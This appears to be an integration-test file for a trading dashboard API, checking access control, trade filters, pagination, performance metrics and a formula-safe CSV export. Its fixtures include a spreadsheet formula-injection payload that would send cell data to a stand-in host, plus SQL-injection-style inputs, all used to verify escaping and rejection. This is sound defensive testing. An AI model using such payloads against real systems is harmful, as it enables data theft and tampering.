// dashboard.* over real HTTP with a real database: who may call it, every trade filter,
// keyset pages with equal timestamps, refused input that changes nothing, a formula-safe
// CSV export of exactly the filtered set, and performance for every kind of range (with a
// deposit in the middle that the time-weighted return does not count as a gain).
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { dayOfWeek, newYorkDate, newYorkMidnight, shiftDate, type DashboardTradesInput } from '@jutsu/shared';
import { completeSignIn } from '../auth/sign-in.ts';
import { createAccount } from '../auth/accounts.ts';
import { appRouter } from '../trpc/app-router.ts';
import type { ProcedureMeta } from '../trpc/meta.ts';
import { startHarness, type Harness } from '../testing/harness.ts';
import { failure, reasonOf, TestBrowser } from '../testing/browser.ts';

type ProcDef = { _def: { type: 'query' | 'mutation' | 'subscription'; meta?: ProcedureMeta } };
const dashboardProcedures = Object.entries(appRouter._def.procedures as unknown as Record<string, ProcDef>).filter(([p]) => p.startsWith('dashboard.'));

let h: Harness;
let viewer: TestBrowser;
let anonymous: TestBrowser;

async function reset() {
  const p = h.services.prisma;
  await p.liveTrade.deleteMany();
  await p.position.deleteMany();
  await p.performanceSnapshot.deleteMany();
  await p.cashFlow.deleteMany();
  await p.marketData.deleteMany();
  await p.brokerageAccount.deleteMany();
  await p.systemState.deleteMany();
  await p.configOverride.deleteMany();
}

async function dataCounts() {
  const p = h.services.prisma;
  return {
    trades: await p.liveTrade.count(),
    positions: await p.position.count(),
    snapshots: await p.performanceSnapshot.count(),
    flows: await p.cashFlow.count(),
    accounts: await p.brokerageAccount.count(),
    state: await p.systemState.count(),
  };
}

beforeAll(async () => {
  h = await startHarness({ LOGIN_RATE_LIMIT: '1000' });
  const user = await createAccount(h.services.prisma, { username: 'dash-viewer', password: 'lantern orbit cactus meadow', role: 'viewer' });
  // A session started the way every sign-in starts one (this suite is about the dashboard,
  // not about the sign-in steps before it).
  const signedIn = await completeSignIn(h.services, { kind: 'anonymous', ip: '127.0.0.1', userAgent: 'dashboard-test' }, { user, amr: ['pwd'], deviceId: undefined });
  viewer = new TestBrowser(h);
  viewer.token = signedIn.body.accessToken;
  anonymous = new TestBrowser(h);
});
afterAll(async () => {
  viewer?.close();
  anonymous?.close();
  await h?.close();
});

describe('access', () => {
  it('declares every dashboard procedure for viewers and up, rate-limited, reads unaudited', () => {
    const declared = Object.fromEntries(dashboardProcedures.map(([p, d]) => [p, { type: d._def.type, ...d._def.meta }]));
    expect(declared).toEqual({
      'dashboard.overview': { type: 'query', auth: 'viewer', rateLimit: 'api', audit: false },
      'dashboard.positions': { type: 'query', auth: 'viewer', rateLimit: 'api', audit: false },
      'dashboard.trades': { type: 'query', auth: 'viewer', rateLimit: 'api', audit: false },
      'dashboard.performance': { type: 'query', auth: 'viewer', rateLimit: 'api', audit: false },
      'dashboard.exportTrades': { type: 'mutation', auth: 'viewer', rateLimit: 'api', audit: 'dashboard.trades_exported' },
    });
  });

  it('refuses an anonymous caller on every procedure and lets a viewer in', async () => {
    const c = anonymous.client.dashboard;
    const calls = [c.overview.query(), c.positions.query(), c.trades.query({}), c.performance.query({ range: 'ytd' }), c.exportTrades.mutate({})];
    for (const call of calls) expect((await failure(call)).data?.code).toBe('UNAUTHORIZED');
    const v = viewer.client.dashboard;
    await expect(v.overview.query()).resolves.toMatchObject({ positionCount: 0 });
    await expect(v.positions.query()).resolves.toMatchObject({ positions: [] });
    await expect(v.trades.query({})).resolves.toMatchObject({ items: [] });
    await expect(v.performance.query({ range: 'ytd' })).resolves.toMatchObject({ series: [] });
    await expect(v.exportTrades.mutate({})).resolves.toMatchObject({ rowCount: 0 });
  });
});

describe('trades', () => {
  const T = (s: string) => new Date(s);
  const same = T('2026-03-03T15:00:00.000Z');
  beforeAll(async () => {
    await reset();
    const rows = [
      // Three with the same timestamp: the page boundary must fall between them.
      { symbol: 'AAPL', side: 'BUY', status: 'filled', isPaper: false, executedAt: same, realizedPnl: null },
      { symbol: 'MSFT', side: 'SELL', status: 'filled', isPaper: false, executedAt: same, realizedPnl: '12.5' },
      { symbol: 'AAPL', side: 'SELL', status: 'cancelled', isPaper: true, executedAt: same, realizedPnl: null },
      // 23:30 in New York on 1 March, though 2 March in UTC.
      { symbol: 'SPY', side: 'BUY', status: 'filled', isPaper: false, executedAt: T('2026-03-02T04:30:00.000Z'), realizedPnl: null },
      { symbol: 'SPY', side: 'SELL', status: 'filled', isPaper: true, executedAt: T('2026-03-02T15:00:00.000Z'), realizedPnl: '-5' },
      { symbol: 'QQQ', side: 'BUY', status: 'filled', isPaper: false, executedAt: T('2026-03-04T15:00:00.000Z'), realizedPnl: null },
      { symbol: 'AAPL', side: 'buy', status: 'FILLED', isPaper: false, executedAt: T('2026-03-05T15:00:00.000Z'), realizedPnl: null },
    ];
    let n = 0;
    for (const r of rows) {
      await h.services.prisma.liveTrade.create({ data: { ...r, quantity: '10', price: '101.25', orderId: `o${++n}`, strategy: 'momo' } });
    }
  });

  const allIds = async () => (await h.services.prisma.liveTrade.findMany({ orderBy: [{ executedAt: 'desc' }, { id: 'desc' }] })).map((t) => t.id.toString());

  it('returns rows newest first with decimal strings', async () => {
    const { items, nextCursor } = await viewer.client.dashboard.trades.query({});
    expect(items.map((t) => t.id)).toEqual(await allIds());
    expect(nextCursor).toBeNull();
    expect(items[0]).toMatchObject({ symbol: 'AAPL', quantity: '10', price: '101.25', notional: '1012.5', fees: '0', mode: 'live', strategy: 'momo' });
    expect(items.find((t) => t.symbol === 'MSFT')?.realizedPnl).toBe('12.5');
  });

  it.each([1, 2, 3])('pages through equal timestamps with limit %i, skipping and repeating nothing', async (limit) => {
    const seen: string[] = [];
    let cursor: string | undefined;
    for (let i = 0; i < 20; i++) {
      const page = await viewer.client.dashboard.trades.query({ limit, ...(cursor ? { cursor } : {}) });
      expect(page.items.length).toBeLessThanOrEqual(limit);
      seen.push(...page.items.map((t) => t.id));
      if (!page.nextCursor) break;
      cursor = page.nextCursor;
    }
    expect(seen).toEqual(await allIds());
  });

  it.each<[string, DashboardTradesInput, (t: { symbol: string; side: string; status: string; isPaper: boolean; executedAt: Date }) => boolean]>([
    ['symbol (any case)', { symbol: 'aapl' }, (t) => t.symbol === 'AAPL'],
    ['side (any case in the data)', { side: 'BUY' }, (t) => t.side.toUpperCase() === 'BUY'],
    ['status', { status: 'filled' }, (t) => t.status.toLowerCase() === 'filled'],
    ['paper', { mode: 'paper' }, (t) => t.isPaper],
    ['live', { mode: 'live' }, (t) => !t.isPaper],
    ['from (a New York date)', { from: '2026-03-02' }, (t) => t.executedAt >= T('2026-03-02T05:00:00Z')],
    ['to (inclusive)', { to: '2026-03-03' }, (t) => t.executedAt < T('2026-03-04T05:00:00Z')],
    ['from and to, one day', { from: '2026-03-01', to: '2026-03-01' }, (t) => newYorkDate(t.executedAt) === '2026-03-01'],
    ['everything at once', { symbol: 'AAPL', side: 'BUY', status: 'filled', mode: 'live', from: '2026-03-03', to: '2026-03-05' }, (t) => t.symbol === 'AAPL' && !t.isPaper],
  ])('filters by %s', async (_what, filter, keep) => {
    const expected = (await h.services.prisma.liveTrade.findMany({ orderBy: [{ executedAt: 'desc' }, { id: 'desc' }] })).filter(keep).map((t) => t.id.toString());
    expect(expected.length).toBeGreaterThan(0);
    const { items } = await viewer.client.dashboard.trades.query({ ...filter, limit: 200 });
    expect(items.map((t) => t.id)).toEqual(expected);
  });

  it('answers every malformed input with a typed 400 and changes nothing', async () => {
    const before = await dataCounts();
    const events = await h.services.prisma.securityEvent.count({ where: { type: { not: 'dashboard.trades_exported' } } });
    const valid = (await viewer.client.dashboard.trades.query({ limit: 1 })).nextCursor!;
    const tampered = valid.slice(0, 4) + (valid[4] === 'A' ? 'B' : 'A') + valid.slice(5);
    const bad: [string, () => Promise<unknown>, string | undefined][] = [
      ['limit 0', () => viewer.client.dashboard.trades.query({ limit: 0 }), undefined],
      ['limit 201', () => viewer.client.dashboard.trades.query({ limit: 201 }), undefined],
      ['from after to', () => viewer.client.dashboard.trades.query({ from: '2026-03-05', to: '2026-03-04' }), undefined],
      ['over 50 years', () => viewer.client.dashboard.trades.query({ from: '1950-01-01', to: '2026-01-01' }), undefined],
      ['not a date', () => viewer.client.dashboard.trades.query({ from: '2026-02-30' }), undefined],
      ['unknown side', () => viewer.client.dashboard.trades.query({ side: 'HOLD' as 'BUY' }), undefined],
      ['malformed cursor', () => viewer.client.dashboard.trades.query({ cursor: '%%%' }), 'INVALID_CURSOR'],
      ['garbage cursor', () => viewer.client.dashboard.trades.query({ cursor: Buffer.from('1;DROP TABLE').toString('base64url') }), 'INVALID_CURSOR'],
      ['tampered cursor', () => viewer.client.dashboard.trades.query({ cursor: tampered }), 'INVALID_CURSOR'],
      ['unknown benchmark', () => viewer.client.dashboard.performance.query({ range: 'ytd', benchmark: 'DIA' as 'SPY' }), undefined],
      ['unknown range', () => viewer.client.dashboard.performance.query({ range: 'decade' as 'max' }), undefined],
      ['range and dates', () => viewer.client.dashboard.performance.query({ range: 'ytd', from: '2026-01-01', to: '2026-02-01' }), undefined],
      ['neither range nor dates', () => viewer.client.dashboard.performance.query({}), undefined],
      ['performance over 50 years', () => viewer.client.dashboard.performance.query({ from: '1950-01-01', to: '2026-01-01' }), undefined],
      ['performance reversed', () => viewer.client.dashboard.performance.query({ from: '2026-01-02', to: '2026-01-01' }), undefined],
      ['export reversed', () => viewer.client.dashboard.exportTrades.mutate({ from: '2026-03-05', to: '2026-03-04' }), undefined],
      ['bad account hash', () => viewer.client.dashboard.positions.query({ accountHash: "' OR 1=1" }), undefined],
    ];
    for (const [what, call, reason] of bad) {
      const err = await failure(call());
      expect([what, err.data?.code, err.data?.httpStatus, reasonOf(err)]).toEqual([what, 'BAD_REQUEST', 400, reason]);
    }
    expect(await dataCounts()).toEqual(before);
    expect(await h.services.prisma.securityEvent.count({ where: { type: { not: 'dashboard.trades_exported' } } })).toBe(events);
  });
});

/** A minimal RFC 4180 reader, to check the export the way a spreadsheet would read it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('CSV export', () => {
  const hostile = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', '+1', '-1', '@SUM(A1:A9)', '\t=1+1', 'a "quoted", name'];
  beforeAll(async () => {
    await reset();
    let n = 0;
    for (const s of hostile) {
      await h.services.prisma.liveTrade.create({
        data: { symbol: s, side: 'BUY', quantity: '1', price: '2', strategy: s, orderId: `x${++n}`, isPaper: false, executedAt: new Date(Date.UTC(2026, 2, 3, 15, n)), realizedPnl: '-3.5' },
      });
    }
    await h.services.prisma.liveTrade.create({ data: { symbol: 'SPY', side: 'SELL', quantity: '1', price: '500', isPaper: true, orderId: 'paper1', executedAt: new Date('2026-03-03T16:00:00Z') } });
  });

  it('escapes formula cells, quotes properly, keeps numbers numeric, and exports exactly the filtered set', async () => {
    const out = await viewer.client.dashboard.exportTrades.mutate({ mode: 'live' });
    const page = await viewer.client.dashboard.trades.query({ mode: 'live', limit: 200 });
    expect(out).toMatchObject({ contentType: 'text/csv', rowCount: page.items.length, truncated: false });
    expect(out.filename).toMatch(/^trades-\d{4}-\d{2}-\d{2}\.csv$/);
    const [header, ...rows] = parseCsv(out.csv);
    expect(header).toEqual(['executed_at_utc', 'date_new_york', 'account', 'symbol', 'side', 'quantity', 'price', 'notional', 'fees', 'realized_pnl', 'strategy', 'order_id', 'status', 'mode']);
    expect(rows.map((r) => r[11])).toEqual(page.items.map((t) => t.orderId));
    for (const r of rows) {
      const original = page.items.find((t) => t.orderId === r[11])!;
      // Read back, every hostile text cell is the original behind a quote: text, not a formula.
      expect(r[3]).toBe(`'${original.symbol}`.replace(/^'(?![=+\-@\t\r])/, ''));
      expect(r[10]).toBe(r[3]);
      expect(r[3]!).not.toMatch(/^[=+\-@\t\r]/);
      expect(r[9]).toBe('-3.5');
      expect(r[13]).toBe('live');
    }
    expect(rows.find((r) => r[11] === 'x6')![3]).toBe('a "quoted", name');
    // The raw text never starts a cell with a formula character.
    expect(out.csv).not.toMatch(/(^|,|\r\n)"?[=+@\t]/);

    const paperOnly = await viewer.client.dashboard.exportTrades.mutate({ mode: 'paper' });
    expect(parseCsv(paperOnly.csv).slice(1).map((r) => r[11])).toEqual(['paper1']);
  });

  it('is audited with the filters and the row count', async () => {
    await viewer.client.dashboard.exportTrades.mutate({ mode: 'paper', from: '2026-03-03' });
    await h.services.securityEvents.settled(); // success notes are written just after the answer
    const e = await h.services.prisma.securityEvent.findFirst({ where: { type: 'dashboard.trades_exported' }, orderBy: { id: 'desc' } });
    expect(e).toMatchObject({ username: 'dash-viewer' });
    expect(e?.details).toMatchObject({ outcome: 'success', rowCount: 1, truncated: false, filters: { mode: 'paper', from: '2026-03-03' } });
  });
});

describe('overview and positions', () => {
  beforeAll(async () => {
    await reset();
    const p = h.services.prisma;
    const now = Date.now();
    const todayStart = newYorkMidnight(newYorkDate(new Date()));
    await p.brokerageAccount.create({
      data: { accountHash: 'HASHLIVE', numberLast4: '1234', lastSyncedAt: new Date(now - 30_000), liquidationValue: '10500', cash: '2500', buyingPower: '5000', longMarketValue: '8000', balancesAt: new Date(now - 30_000) },
    });
    await p.brokerageAccount.create({ data: { accountHash: 'HASHPAPER', numberLast4: '9999', isPaper: true, lastSyncedAt: new Date(now - 3_600_000), liquidationValue: '1', balancesAt: new Date() } });
    // Yesterday's close 10000; 200 deposited today: day P&L = 10500 − 10000 − 200 = 300 (3 %).
    await p.performanceSnapshot.create({ data: { accountHash: 'HASHLIVE', takenAt: new Date(todayStart.getTime() - 3_600_000), equity: '10000', cash: '2000', positionsValue: '8000' } });
    const since = Math.max(1, now - todayStart.getTime());
    await p.performanceSnapshot.create({ data: { accountHash: 'HASHLIVE', takenAt: new Date(todayStart.getTime() + since / 3), equity: '10100', cash: '2000', positionsValue: '8100' } });
    await p.performanceSnapshot.create({ data: { accountHash: 'HASHLIVE', takenAt: new Date(todayStart.getTime() + (2 * since) / 3), equity: '10450.5', cash: '2500', positionsValue: '7950.5' } });
    await p.cashFlow.create({ data: { accountHash: 'HASHLIVE', occurredAt: new Date(todayStart.getTime() + since / 2), amount: '200', kind: 'deposit' } });
    await p.position.create({ data: { accountHash: 'HASHLIVE', symbol: 'SPY', quantity: '10', averagePrice: '500', marketValue: '5250', unrealizedPnl: '250', dayPnl: '20' } });
    await p.position.create({ data: { accountHash: 'HASHLIVE', symbol: 'TLT', quantity: '30', averagePrice: '95', marketValue: '2750', assetType: 'ETF', dayPnl: '-5' } });
    await p.position.create({ data: { accountHash: 'HASHPAPER', symbol: 'TSLA', quantity: '1', averagePrice: '1', marketValue: '1', isPaper: true } });
    await p.systemState.create({ data: { key: 'engine.state', value: 'running' } });
    await p.configOverride.create({ data: { key: 'strategy.targets', value: { SPY: 60, TLT: 20 } } });
  });

  it('sums the real-money balances, computes day P&L net of the deposit, and reads the engine', async () => {
    const o = await viewer.client.dashboard.overview.query();
    expect(o.accounts.map((a) => a.accountHash)).toEqual(['HASHLIVE']); // paper money is not added to real money
    expect(o).toMatchObject({
      balancesSource: 'balances',
      netLiquidation: '10500',
      cash: '2500',
      buyingPower: '5000',
      positionsValue: '8000',
      dayPnl: '300',
      positionCount: 2,
      engine: { state: 'running', mode: 'paper' },
      freshness: { verdict: 'fresh', reason: null, syncIntervalSeconds: 60 },
    });
    expect(o.investedPct).toBeCloseTo(8000 / 10500, 12);
    expect(o.dayPnlPct).toBeCloseTo(0.03, 12);
    expect(o.sparkline.map((s) => s.equity)).toEqual(['10100', '10450.5']);
  });

  it('falls back to the latest snapshot, and turns amber then red as the sync ages', async () => {
    const p = h.services.prisma;
    await p.brokerageAccount.update({ where: { accountHash: 'HASHLIVE' }, data: { balancesAt: null, lastSyncedAt: new Date(Date.now() - 200_000) } });
    let o = await viewer.client.dashboard.overview.query();
    expect(o).toMatchObject({ balancesSource: 'snapshot', netLiquidation: '10450.5', cash: '2500', buyingPower: null, freshness: { verdict: 'amber', reason: 'delayed' } });
    await p.brokerageAccount.update({ where: { accountHash: 'HASHLIVE' }, data: { lastSyncedAt: new Date(Date.now() - 400_000) } });
    o = await viewer.client.dashboard.overview.query();
    expect(o.freshness).toMatchObject({ verdict: 'red', reason: 'stale' });
    await p.brokerageAccount.update({ where: { accountHash: 'HASHLIVE' }, data: { balancesAt: new Date(), lastSyncedAt: new Date() } });
  });

  it('lists positions with P&L, weights of net liquidation, target drift and allocation', async () => {
    const r = await viewer.client.dashboard.positions.query();
    expect(r.weightBasis).toBe('netLiquidation');
    expect(r.weightBase).toBe('10500');
    expect(r.targetsConfigured).toBe(true);
    const spy = r.positions.find((x) => x.symbol === 'SPY')!;
    // cost 10 × 500 = 5000; open P&L 5250 − 5000 = 250 (5 %); last 5250/10 = 525; weight 5250/10500 = 0.5; drift 0.5 − 0.6
    expect(spy).toMatchObject({ quantity: '10', averagePrice: '500', lastPrice: '525', marketValue: '5250', costBasis: '5000', openPnl: '250', dayPnl: '20', targetWeight: 0.6 });
    expect(spy.openPnlPct).toBeCloseTo(0.05, 12);
    expect(spy.weight).toBeCloseTo(0.5, 12);
    expect(spy.drift).toBeCloseTo(-0.1, 12);
    const tlt = r.positions.find((x) => x.symbol === 'TLT')!;
    // cost 30 × 95 = 2850; 2750 − 2850 = −100
    expect(tlt).toMatchObject({ costBasis: '2850', openPnl: '-100', assetType: 'ETF' });
    expect(r.positions.map((x) => x.symbol)).toEqual(['SPY', 'TLT']);
    expect(r.totals).toEqual({ marketValue: '8000', costBasis: '7850', openPnl: '150', dayPnl: '15' });
    expect(r.allocation.byAssetType.map((s) => [s.key, s.marketValue])).toEqual([
      ['EQUITY', '5250'],
      ['ETF', '2750'],
      ['CASH', '2500'],
    ]);
    const paper = await viewer.client.dashboard.positions.query({ accountHash: 'HASHPAPER' });
    expect(paper.positions.map((x) => x.symbol)).toEqual(['TSLA']);
    expect((await viewer.client.dashboard.positions.query({ accountHash: 'NOSUCH' })).positions).toEqual([]);
  });

  it('tolerates a malformed target setting', async () => {
    await h.services.prisma.configOverride.update({ where: { key: 'strategy.targets' }, data: { value: 'sixty-forty' } });
    const r = await viewer.client.dashboard.positions.query();
    expect(r.targetsConfigured).toBe(false);
    expect(r.positions.every((x) => x.targetWeight === null && x.drift === null)).toBe(true);
  });
});

describe('performance', () => {
  const snap = (date: string, equity: string, account = 'PERF1') =>
    h.services.prisma.performanceSnapshot.create({ data: { accountHash: account, takenAt: new Date(newYorkMidnight(date).getTime() + 16 * 3_600_000), equity, cash: '0', positionsValue: equity } });

  describe('a fixed week with a deposit and a missing day', () => {
    beforeAll(async () => {
      await reset();
      const p = h.services.prisma;
      await p.brokerageAccount.create({ data: { accountHash: 'PERF1', numberLast4: '0001' } });
      // Mon 100, Tue 110, Wed missing (100 deposited that afternoon), Thu 220, Fri 198.
      await snap('2025-03-03', '100');
      await snap('2025-03-04', '110');
      await p.cashFlow.create({ data: { accountHash: 'PERF1', occurredAt: new Date('2025-03-05T18:00:00Z'), amount: '100', kind: 'deposit', externalId: 'dep1' } });
      await snap('2025-03-06', '220');
      await snap('2025-03-07', '198');
      // SPY stamped at New York midnight, QQQ at UTC midnight: both mean that date.
      const spy = [['2025-03-03', '500'], ['2025-03-04', '505'], ['2025-03-05', '510'], ['2025-03-06', '495'], ['2025-03-07', '500']];
      for (const [d, c] of spy) await p.marketData.create({ data: { symbol: 'SPY', timeframe: '1d', ts: newYorkMidnight(d!), open: c!, high: c!, low: c!, close: c!, volume: '1' } });
      for (const [d, c] of spy) await p.marketData.create({ data: { symbol: 'QQQ', timeframe: '1d', ts: new Date(`${d}T00:00:00Z`), open: c!, high: c!, low: c!, close: c!, volume: '1' } });
    });

    it('does not count the deposit as a return (TWR ≠ the raw equity change) and reports the gap', async () => {
      const r = await viewer.client.dashboard.performance.query({ from: '2025-03-03', to: '2025-03-07', benchmark: 'SPY' });
      expect(r.range).toMatchObject({ kind: 'custom', fromDate: '2025-03-03', toDate: '2025-03-07' });
      expect(r.granularity).toBe('daily');
      expect(r.series.map((s) => [s.date, s.equity, s.flow, s.base])).toEqual([
        ['2025-03-03', '100', '0', false],
        ['2025-03-04', '110', '0', false],
        ['2025-03-06', '220', '100', false],
        ['2025-03-07', '198', '0', false],
      ]);
      // 1.1 × (220 − 100)/110 × 198/220 − 1 = 1.1 × 1.0909 × 0.9 − 1 = 0.08; raw 198/100 − 1 = 0.98
      expect(r.metrics.twr).toBeCloseTo(0.08, 10);
      expect(r.metrics.simpleReturn).toBeCloseTo(0.98, 10);
      expect(r.metrics.twr).not.toBeCloseTo(r.metrics.simpleReturn!, 2);
      expect(r.metrics).toMatchObject({ startEquity: '100', endEquity: '198', netFlows: '100' });
      expect(r.series.at(-1)!.cumulativeReturn).toBeCloseTo(0.08, 10);
      expect(r.gaps).toEqual([{ from: '2025-03-05', to: '2025-03-05', reason: 'no_snapshot' }]);
      // index 1, 1.1, 1.2, 1.08: the fall from 1.2 to 1.08 is −10 %.
      expect(r.metrics.maxDrawdown).toMatchObject({ depth: expect.closeTo(-0.1, 10), peakDate: '2025-03-06', troughDate: '2025-03-07', recoveryDate: null });
      expect(r.drawdown.map((d) => d.drawdown)).toEqual([0, 0, 0, expect.closeTo(-0.1, 10)]);
      // Benchmark rebased to the first equity: 500 → 100, 505 → 101, …
      expect(r.benchmark?.symbol).toBe('SPY');
      expect(r.benchmark?.series.map((b) => [b.date, b.value])).toEqual([
        ['2025-03-03', '100'],
        ['2025-03-04', '101'],
        ['2025-03-05', '102'],
        ['2025-03-06', '99'],
        ['2025-03-07', '100'],
      ]);
      // Aligned periods: 03-04 (+1 % SPY), 03-06 over 03-04 → 03-06 (495/505 − 1), 03-07 (500/495 − 1).
      expect(r.metrics.benchmarkPeriods).toBe(3);
      expect(r.metrics.beta).not.toBeNull();
      expect(r.monthlyReturns).toEqual([{ year: 2025, month: 3, ret: expect.closeTo(0.08, 10) }]);
    });

    it('reads a benchmark stamped at UTC midnight as the same dates', async () => {
      const r = await viewer.client.dashboard.performance.query({ from: '2025-03-03', to: '2025-03-07', benchmark: 'QQQ' });
      expect(r.benchmark?.series.map((b) => b.date)).toEqual(['2025-03-03', '2025-03-04', '2025-03-05', '2025-03-06', '2025-03-07']);
    });

    it('measures a later range from the close before it (the base point)', async () => {
      const r = await viewer.client.dashboard.performance.query({ from: '2025-03-06', to: '2025-03-07' });
      expect(r.series.map((s) => [s.date, s.base, s.flow])).toEqual([
        ['2025-03-04', true, '0'],
        ['2025-03-06', false, '100'],
        ['2025-03-07', false, '0'],
      ]);
      // (220 − 100)/110 × 198/220 − 1 = 1.0909 × 0.9 − 1 = −0.01818…
      expect(r.metrics.twr).toBeCloseTo((120 / 110) * 0.9 - 1, 10);
      expect(r.metrics.netFlows).toBe('100');
    });

    it('covers year:2025 as the calendar year', async () => {
      const r = await viewer.client.dashboard.performance.query({ range: 'year:2025' });
      expect(r.range).toMatchObject({ kind: 'year:2025', fromDate: '2025-01-01', toDate: '2025-12-31' });
      expect(r.range.from?.toISOString()).toBe('2025-01-01T05:00:00.000Z');
      expect(r.series.map((s) => s.date)).toEqual(['2025-03-03', '2025-03-04', '2025-03-06', '2025-03-07']);
      expect(r.metrics.twr).toBeCloseTo(0.08, 10);
    });

    it('gives nulls, not NaN, for a range with one point', async () => {
      const r = await viewer.client.dashboard.performance.query({ from: '2025-03-03', to: '2025-03-03' });
      expect(r.series).toHaveLength(1);
      expect(r.metrics).toMatchObject({ twr: null, volatility: null, sharpe: null, maxDrawdown: null, cagr: null });
    });

    it('marks a day one account did not report as a gap, not a guess', async () => {
      await h.services.prisma.brokerageAccount.create({ data: { accountHash: 'PERF2', numberLast4: '0002' } });
      await snap('2025-03-03', '50', 'PERF2');
      await snap('2025-03-06', '50', 'PERF2');
      await snap('2025-03-07', '50', 'PERF2');
      const r = await viewer.client.dashboard.performance.query({ from: '2025-03-03', to: '2025-03-07' });
      expect(r.series.map((s) => [s.date, s.equity])).toEqual([
        ['2025-03-03', '150'],
        ['2025-03-06', '270'],
        ['2025-03-07', '248'],
      ]);
      expect(r.gaps).toEqual([
        { from: '2025-03-04', to: '2025-03-04', reason: 'partial_accounts' },
        { from: '2025-03-05', to: '2025-03-05', reason: 'no_snapshot' },
      ]);
      await h.services.prisma.performanceSnapshot.deleteMany({ where: { accountHash: 'PERF2' } });
      await h.services.prisma.brokerageAccount.delete({ where: { accountHash: 'PERF2' } });
    });
  });

  describe('every named range, relative to today', () => {
    const today = newYorkDate(new Date());
    beforeAll(async () => {
      await reset();
      const p = h.services.prisma;
      await p.brokerageAccount.create({ data: { accountHash: 'PERF1', numberLast4: '0001' } });
      // A weekday close for six years up to yesterday, growing 0.01 % a day, then today's intraday points.
      const rows: { accountHash: string; takenAt: Date; equity: string; cash: string; positionsValue: string }[] = [];
      let equity = 10000;
      for (let d = shiftDate(today, -6 * 366); d < today; d = shiftDate(d, 1)) {
        if (dayOfWeek(d) === 0 || dayOfWeek(d) === 6) continue;
        equity *= 1.0001;
        rows.push({ accountHash: 'PERF1', takenAt: new Date(newYorkMidnight(d).getTime() + 16 * 3_600_000), equity: equity.toFixed(2), cash: '0', positionsValue: '0' });
      }
      const start = newYorkMidnight(today).getTime();
      const span = Math.max(3, Date.now() - start);
      for (const k of [1, 2]) rows.push({ accountHash: 'PERF1', takenAt: new Date(start + (k * span) / 3), equity: (equity + k).toFixed(2), cash: '0', positionsValue: '0' });
      await p.performanceSnapshot.createMany({ data: rows });
      await p.liveTrade.createMany({
        data: [
          { symbol: 'SPY', side: 'SELL', quantity: '1', price: '1', realizedPnl: '10', executedAt: new Date(), isPaper: false },
          { symbol: 'SPY', side: 'SELL', quantity: '1', price: '1', realizedPnl: '-4', executedAt: new Date(), isPaper: false },
          { symbol: 'SPY', side: 'BUY', quantity: '1', price: '1', executedAt: new Date(), isPaper: false },
          { symbol: 'SPY', side: 'SELL', quantity: '1', price: '1', realizedPnl: '99', executedAt: new Date(), isPaper: true },
        ],
      });
    });

    it.each(['today', 'wtd', 'mtd', 'ytd', '1y', '5y', 'max'] as const)('%s', async (range) => {
      const r = await viewer.client.dashboard.performance.query({ range });
      expect(r.range.kind).toBe(range);
      expect(r.range.toDate).toBe(today);
      expect(r.granularity).toBe(range === 'today' ? 'intraday' : 'daily');
      const inside = r.series.filter((s) => !s.base);
      expect(inside.length).toBeGreaterThan(0);
      for (const s of inside) {
        expect(s.date <= today).toBe(true);
        if (r.range.fromDate) expect(s.date >= r.range.fromDate).toBe(true);
      }
      const bases = r.series.filter((s) => s.base);
      if (range === 'max') expect(bases).toHaveLength(0);
      else {
        // The close before the range is the base (there are six years of data).
        expect(bases).toHaveLength(1);
        expect(bases[0]!.date < r.range.fromDate!).toBe(true);
        expect(r.series[0]!.base).toBe(true);
      }
      if (range === 'wtd') expect(dayOfWeek(r.range.fromDate!)).toBe(1);
      if (range === 'mtd') expect(r.range.fromDate).toBe(`${today.slice(0, 8)}01`);
      if (range === 'ytd') expect(r.range.fromDate).toBe(`${today.slice(0, 4)}-01-01`);
      expect(r.metrics.twr).toBeGreaterThan(0);
      expect(r.metrics.maxDrawdown?.depth ?? 0).toBeCloseTo(0, 12);
      expect(r.gaps).toEqual([]);
      if (range === 'today') {
        expect(inside.map((s) => s.at.getTime())).toEqual([...inside.map((s) => s.at.getTime())].sort((a, b) => a - b));
      }
      if (range === '5y' || range === 'max') {
        // Realized P&L and win rate of real-money trades only: 10 and −4 closed, the paper 99 excluded.
        expect(r.metrics).toMatchObject({ realizedPnl: '6', closedTrades: 2, winningTrades: 1, losingTrades: 1, winRate: 0.5 });
        expect(r.metrics.volatility).not.toBeNull();
        expect(JSON.stringify(r)).not.toMatch(/NaN|Infinity/);
      }
    });
  });
});

describe('empty state', () => {
  beforeEach(reset);
  it('answers with nothing rather than failing when there is no data at all', async () => {
    const o = await viewer.client.dashboard.overview.query();
    expect(o).toMatchObject({ balancesSource: 'none', netLiquidation: null, dayPnl: null, positionCount: 0, freshness: { verdict: 'red', reason: 'no_account' }, engine: { state: 'stopped', mode: 'paper' }, sparkline: [] });
    const r = await viewer.client.dashboard.performance.query({ range: 'max', benchmark: 'SPY' });
    expect(r).toMatchObject({ series: [], gaps: [], benchmark: null, drawdown: [], monthlyReturns: [] });
    expect(r.metrics).toMatchObject({ twr: null, winRate: null, realizedPnl: '0', startEquity: null });
  });
});
